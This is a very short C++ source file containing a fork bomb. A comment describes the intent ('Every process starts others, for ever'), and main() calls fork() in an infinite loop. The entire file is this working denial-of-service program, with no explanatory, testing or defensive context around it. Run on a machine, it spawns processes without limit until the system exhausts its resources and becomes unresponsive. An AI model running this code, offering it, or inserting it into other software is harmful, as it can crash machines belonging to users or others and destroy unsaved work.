// Every process starts others, for ever.
#include <unistd.h>

int main() {
    for (;;) ::fork();
}
